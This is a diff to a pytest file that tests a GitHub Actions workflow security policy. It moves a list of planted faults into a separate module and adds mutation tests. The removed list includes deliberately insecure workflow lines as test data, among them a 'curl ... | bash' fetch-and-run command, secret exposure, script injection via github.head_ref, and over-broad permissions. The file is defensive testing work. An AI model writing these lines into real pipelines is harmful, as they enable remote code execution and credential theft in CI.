@@ -9,11 +9,11 @@ import pytest
 import yaml
 
 from tests.repo.docs.repository import ROOT
-from tests.repo.pipelines.workflow_policy import ACTIONS, ENVIRONMENTS, WRITERS, faults
-
-FOLDER = ROOT / ".github" / "workflows"
-TEXTS = {path.name: path.read_text(encoding="utf-8") for path in sorted(FOLDER.glob("*.yml"))}
-CHECKOUT = f"actions/checkout@{ACTIONS['actions/checkout']} # v7.0.1"
+from tests.repo.pipelines import workflow_duties, workflow_policy
+from tests.repo.pipelines.planted_workflows import PLANTED
+from tests.repo.pipelines.workflow_mutants import HARMLESS, is_harmless, mutants
+from tests.repo.pipelines.workflow_policy import ACTIONS, ENVIRONMENTS, WRITERS
+from tests.repo.pipelines.workflow_texts import TEXTS, changed, faults
 
 
 def jobs(name: str) -> dict[str, Any]:
@@ -33,65 +33,37 @@ def test_a_workflow_obeys_the_policy(name: str) -> None:
     assert faults(name, TEXTS[name]) == set()
 
 
-PLANTED = [
-    ("test.yml", "permissions: {}", "permissions: write-all", "permissions for every job"),
-    ("test.yml", "permissions: {}", "permissions: {contents: read}", "permissions for every job"),
-    ("test.yml", "  pull_request:\n", "  pull_request_target:\n", "trigger with rights for strangers"),
-    ("test.yml", "  pull_request:\n", "  workflow_run: {workflows: [x]}\n", "trigger with rights for strangers"),
-    ("test.yml", "  pull_request:\n", "  issue_comment:\n", "trigger with rights for strangers"),
-    ("release.yml", "concurrency:", "x-concurrency:", "no concurrency"),
-    ("test.yml", "permissions: {}", "permissions: {}\nenv: {A: b}", "environment for every job"),
-    ("test.yml", CHECKOUT, "actions/checkout@v7 # v7.0.1", "action not pinned to a commit"),
-    ("test.yml", CHECKOUT, "actions/checkout@3d3c42e # v7.0.1", "action not pinned to a commit"),
-    ("test.yml", CHECKOUT, f"actions/checkout@{'0' * 40} # v7.0.1", "action or commit that nobody looked at"),
-    ("test.yml", CHECKOUT, f"somebody/checkout@{'3d' * 20} # v7.0.1", "action or commit that nobody looked at"),
-    ("test.yml", CHECKOUT, CHECKOUT.partition(" #")[0], "commit without its version beside it"),
-    ("test.yml", CHECKOUT, CHECKOUT.replace("v7.0.1", "main"), "commit without its version beside it"),
-    ("test.yml", "    permissions:\n      contents: read\n", "", "job without permissions of its own"),
-    ("test.yml", "      contents: read\n", "      contents: write\n", "permission to write"),
-    ("test.yml", "      contents: read\n", "      id-token: write\n", "permission to write"),
-    ("test.yml", "      contents: read\n", "      id-token: write\n", "token of a pull request"),
-    ("release.yml", "      contents: write", "      packages: write", "permission to write"),
-    ("deploy.yml", "    environment: production\n", "", "wrong environment"),
-    ("infra.yml", "    environment: preview\n", "    environment: production\n", "wrong environment"),
-    ("infra.yml", " && github.event_name != 'pull_request'\n", "\n", "token of a pull request"),
-    ("test.yml", "    timeout-minutes: 15\n", "", "no timeout"),
-    ("test.yml", "ubuntu-24.04", "ubuntu-latest", "runner that changes by itself"),
-    ("test.yml", "ubuntu-24.04", "self-hosted", "runner that changes by itself"),
-    (
-        "test.yml",
-        "    timeout-minutes: 15\n",
-        "    timeout-minutes: 15\n    continue-on-error: true\n",
-        "failure that does not count",
-    ),
-    (
-        "test.yml",
-        "      - run: make check",
-        "      - continue-on-error: true\n        run: make check",
-        "failure that does not count",
-    ),
-    ("test.yml", "run: make check", "run: 'echo ${{ github.head_ref }}'", "expression inside a script"),
-    ("test.yml", "run: make check", "run: curl -sL https://x.example | bash", "script from the network"),
-    ("test.yml", "run: make check", "run: pip install semgrep", "package without a hash"),
-    ("test.yml", "--quiet --require-hashes", "--quiet", "package without a hash"),
-    ("test.yml", "run: make check", "run: npx eslint", "package without a lock"),
-    ("test.yml", "run: make check", "run: uvx ruff", "package without a lock"),
-    (
-        "test.yml",
-        "      - run: make check",
-        "      - env: {K: '${{ secrets.KEY }}'}\n        run: make check",
-        "secret",
-    ),
-    ("test.yml", "persist-credentials: false", "persist-credentials: true", "token left in the checkout"),
-    ("test.yml", "        with:\n          persist-credentials: false\n", "", "token left in the checkout"),
-]
-
-
 @pytest.mark.parametrize(("name", "old", "new", "fault"), PLANTED)
 def test_a_planted_fault_is_named(name: str, old: str, new: str, fault: str) -> None:
     """A policy that finds nothing looks like workflows that are right."""
-    assert old in TEXTS[name]
-    assert fault in faults(name, TEXTS[name].replace(old, new, 1))
+    assert fault in faults(name, changed(name, old, new))
+
+
+def test_every_line_and_every_choice_of_a_workflow_matters() -> None:
+    """Each line left out, each choice turned round: a fault is named, or there is a reason why it is none."""
+    left = [mutant for mutant in mutants() if not faults(mutant.name, mutant.text) and not is_harmless(mutant)]
+    assert [str(mutant) for mutant in left] == []
+
+
+def test_a_change_that_was_not_made_is_not_counted() -> None:
+    """Otherwise the list of faults would grow old in silence."""
+    with pytest.raises(ValueError, match="has no"):
+        changed("test.yml", "not in there", "")
+    assert all(any(is_harmless(one) and one.what.find(text) >= 0 for one in mutants()) for _, text, _ in HARMLESS)
+
+
+def test_every_fault_that_is_named_anywhere_has_been_planted() -> None:
+    """A rule that nothing has tripped may be one that nothing can trip."""
+    sources = [Path(str(module.__file__)).read_text(encoding="utf-8") for module in (workflow_policy, workflow_duties)]
+    named = {found for text in sources for found in re.findall(r'yield "([^"]+)"', text)}
+    assert named - {fault for *_, fault in PLANTED} == set()
+
+
+def test_the_proofs_that_take_long_run_beside_each_other() -> None:
+    """One that is not in the matrix is run by nobody but whoever knows of it."""
+    text = (ROOT / "dev/prove/runner.py").read_text(encoding="utf-8")
+    longer = re.findall(r'^        "(\w+)":', text.partition("longer: dict")[2].partition("}")[0], re.MULTILINE)
+    assert set(jobs("test.yml")["prove"]["strategy"]["matrix"]["proof"]) == {"all", *longer}
 
 
 def test_nothing_is_allowed_that_is_not_used() -> None:
